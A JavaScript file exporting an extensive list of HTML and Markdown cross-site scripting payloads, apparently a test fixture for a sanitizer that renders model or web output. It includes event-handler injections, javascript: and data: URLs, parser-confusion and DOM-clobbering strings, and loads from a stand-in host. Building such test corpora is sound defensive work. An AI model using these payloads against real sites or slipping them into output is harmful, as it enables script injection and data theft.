// Texts that try to run something, to load something, or to look like a part of the
// page: what a model, a page on the web, a file or a tool may say. BAD stands for
// code that would be noticed, FAR for an address of somebody else.

const BAD = 'top.pwned=1';
const FAR = 'https://far.example/x';

const elements = [
  `<script>${BAD}</script>`, `<script src="${FAR}"></script>`, `<SCRIPT SRC=${FAR}></SCRIPT>`, `<scr<script>ipt>${BAD}</scr</script>ipt>`, `<script\n>${BAD}</script\n>`, `<script/x>${BAD}</script>`,
  `<img src=x onerror=${BAD}>`, `<img src="${FAR}.png">`, `<img srcset="${FAR}.png 1x">`, `<IMG SRC=javascript:${BAD}>`, `<img src=x:x onerror="${BAD}">`, `<img/src="x"/onerror=${BAD}>`, `<img src='x' onerror\n=\n${BAD}>`,
  `<image src=x onerror=${BAD}>`, `<picture><source srcset="${FAR}"><img src="${FAR}"></picture>`, `<svg onload=${BAD}>`, `<svg><script>${BAD}</script></svg>`, `<svg><image href="${FAR}"/></svg>`, `<svg><use href="${FAR}#x"/></svg>`,
  `<svg><a xlink:href="javascript:${BAD}"><text y=20>go</text></a></svg>`, `<svg><animate onbegin=${BAD} attributeName=x dur=1s>`, `<svg><set onbegin=${BAD}>`, `<svg><foreignObject><img src=x onerror=${BAD}></foreignObject></svg>`, `<svg><style>*{background:url(${FAR})}</style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${BAD}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${BAD}&gt;">`, `<math><mi xlink:href="javascript:${BAD}">x</mi></math>`, `<math href="javascript:${BAD}">x</math>`,
  `<iframe src="${FAR}"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src="javascript:${BAD}"></iframe>`, `<iframe onload=${BAD}></iframe>`, `<frameset onload=${BAD}>`, `<object data="${FAR}"></object>`, `<object data="javascript:${BAD}"></object>`,
  `<embed src="${FAR}">`, `<embed src="javascript:${BAD}">`, `<applet code="${FAR}"></applet>`, `<link rel=stylesheet href="${FAR}">`, `<link rel=preload as=image href="${FAR}">`, `<link rel="dns-prefetch" href="${FAR}">`, `<link rel=modulepreload href="${FAR}">`,
  `<style>*{background:url(${FAR})}</style>`, `<style>@import '${FAR}';</style>`, `<style onload=${BAD}></style>`, `<base href="${FAR}">`, `<meta http-equiv=refresh content="0;url=${FAR}">`, `<meta http-equiv="refresh" content="0;url=javascript:${BAD}">`,
  `<body onload=${BAD}>`, `<body background="${FAR}">`, `<html onmouseover=${BAD}>`, `<input autofocus onfocus=${BAD}>`, `<input type=image src="${FAR}" onerror=${BAD}>`, `<select autofocus onfocus=${BAD}>`, `<textarea autofocus onfocus=${BAD}>`, `<keygen autofocus onfocus=${BAD}>`,
  `<button onclick=${BAD} class=cite data-number=1>1</button>`, `<button class="cite verified" data-number="1" data-citation="0">1</button>`, `<form action="${FAR}"><button>go</button></form>`, `<form><button formaction="javascript:${BAD}">go</button></form>`, `<isindex action="javascript:${BAD}">`,
  `<details open ontoggle=${BAD}>`, `<dialog open onclose=${BAD}>`, `<video src="${FAR}" onerror=${BAD}></video>`, `<video poster="${FAR}"></video>`, `<audio src=x onerror=${BAD}>`, `<audio src="${FAR}" autoplay></audio>`, `<source src=x onerror=${BAD}>`, `<track src="${FAR}">`, `<video><source onerror=${BAD}></video>`,
  `<marquee onstart=${BAD}>x</marquee>`, `<blink onclick=${BAD}>x</blink>`, `<bgsound src="${FAR}">`, `<layer src="${FAR}"></layer>`, `<table background="${FAR}"><tr><td background="${FAR}">x</td></tr></table>`, `<td background="${FAR}">x</td>`,
  `<div style="background:url(${FAR})">x</div>`, `<div style="width:expression(${BAD})">x</div>`, `<div style="-moz-binding:url(${FAR})">x</div>`, `<p style="position:fixed;inset:0;z-index:99;background:red">x</p>`, `<div onpointerover=${BAD}>x</div>`, `<div contenteditable onblur=${BAD}>x</div>`,
  `<a href="javascript:${BAD}">x</a>`, `<a href="JaVaScRiPt:${BAD}">x</a>`, `<a href=" javascript:${BAD}">x</a>`, `<a href="java\nscript:${BAD}">x</a>`, `<a href="java&#09;script:${BAD}">x</a>`, `<a href="&#106;avascript:${BAD}">x</a>`, `<a href="&#x6A&#x61&#x76&#x61script:${BAD}">x</a>`,
  `<a href="data:text/html,<script>${BAD}</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==">x</a>`, `<a href="vbscript:${BAD}">x</a>`, `<a href="blob:${FAR}">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="//far.example/x" ping="${FAR}">x</a>`, `<a href="${FAR}" ping="${FAR}">x</a>`,
  `<a href="#" onclick=${BAD}>x</a>`, `<a data-go href="/settings">x</a>`, `<a target=_self href="/run/x">x</a>`, `<a href="/api/runs">x</a>`, `<a id=main name=main>x</a>`, `<div id=page>x</div>`, `<div id="question">x</div>`, `<p class="popover" popover>x</p>`,
  `<xss onafterscriptexecute=${BAD}>x</xss>`, `<x onclick=${BAD}>x</x>`, `<slot onslotchange=${BAD}>`, `<template><script>${BAD}</script></template>`, `<template shadowrootmode=open><img src=x onerror=${BAD}></template>`, `<portal src="${FAR}">`, `<fencedframe src="${FAR}">`, `<object><param name=movie value="${FAR}"></object>`,
  `<noscript><p title="</noscript><img src=x onerror=${BAD}>">`, `<textarea></textarea><img src=x onerror=${BAD}>`, `<title></title><script>${BAD}</script>`, `<xmp><p title="</xmp><svg/onload=${BAD}>"></p></xmp>`, `<plaintext><img src=x onerror=${BAD}>`, `<listing>&lt;img onerror=${BAD} src=x&gt;</listing>`,
  `<!--><img src=x onerror=${BAD}>-->`, `<!--[if IE]><script>${BAD}</script><![endif]-->`, `<![CDATA[<script>${BAD}</script>]]>`, `<?xml version="1.0"?><script>${BAD}</script>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "${FAR}">]>&y;`, `</div></main><script>${BAD}</script>`, `"><script>${BAD}</script>`, `'><img src=x onerror=${BAD}>`, `\`><svg/onload=${BAD}>`, `<<img src=x onerror=${BAD}//<`,
  `<img src="x\` \`<script>${BAD}</script>"\` \`>`, `<a href='x' title='</a><img src=x onerror=${BAD}>'>x</a>`, `<form id=attributes><input name=nodeName><img src=x onerror=${BAD}></form>`, `<form><input name=attributes></form>`, `<img name=getElementById><img name=createElement>`, `<a id=location href="javascript:${BAD}">x</a>`,
  `<select><template><img src=x onerror=${BAD}></template></select>`, `<option><style></option></select><b><img src=x onerror=${BAD}></style></option>`, `<table><td><svg><desc><td><img src=x onerror=${BAD}></td></desc></svg></td></table>`, `<p><svg><p><style><g title="</style><img src onerror=${BAD}>">`,
];

const markdown = [
  `[x](javascript:${BAD})`, `[x](JAVASCRIPT:${BAD})`, `[x](  javascript:${BAD})`, `[x](java&#115;cript:${BAD})`, `[x](&#x6a;avascript:${BAD})`, `[x](javascript&colon;${BAD})`, `[x](data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==)`, `[x](vbscript:${BAD})`, `[x](\u0001javascript:${BAD})`,
  `![x](${FAR}.png)`, `![x](javascript:${BAD})`, `![x](x"onerror="${BAD})`, `![x]("onerror="${BAD}")`, `![${FAR}][1]\n\n[1]: ${FAR}.png`, `[![x](${FAR}.png)](${FAR})`, `[x][1]\n\n[1]: javascript:${BAD}`, `[x]: javascript:${BAD}\n\n[x]`, `<javascript:${BAD}>`, `<${FAR}>`,
  `[x](${FAR} "onmouseover=${BAD}")`, `[x](${FAR} 't" onclick="${BAD}')`, `[a](https://far.example/"onmouseover="${BAD})`, `\`\`\`html\n<script>${BAD}</script>\n\`\`\``, `\`\`\`"><img src=x onerror=${BAD}>\nx\n\`\`\``, `\`<img src=x onerror=${BAD}>\``, `~~~ <svg onload=${BAD}>\nx\n~~~`,
  `| a |\n| --- |\n| <img src=x onerror=${BAD}> |`, `# <img src=x onerror=${BAD}>`, `- <svg onload=${BAD}>`, `> <iframe src="${FAR}"></iframe>`, `1. <a href="javascript:${BAD}">x</a>`, `**<img src=x onerror=${BAD}>**`, `x  \n<script>${BAD}</script>`, `&lt;script&gt;${BAD}&lt;/script&gt;`, `&#60;script&#62;${BAD}&#60;/script&#62;`,
  `\\<script>${BAD}</script>`, `[1](javascript:${BAD})`, `[?](javascript:${BAD})`, `\uE0000\uE001 <img src=x onerror=${BAD}>`, `\uE000<script>${BAD}</script>\uE001`, `{{constructor.constructor('${BAD}')()}}`, `\${${BAD}}`, `javascript:${BAD}`, `\u202E<script>${BAD}</script>`,
];

export const payloads = [...elements, ...markdown];
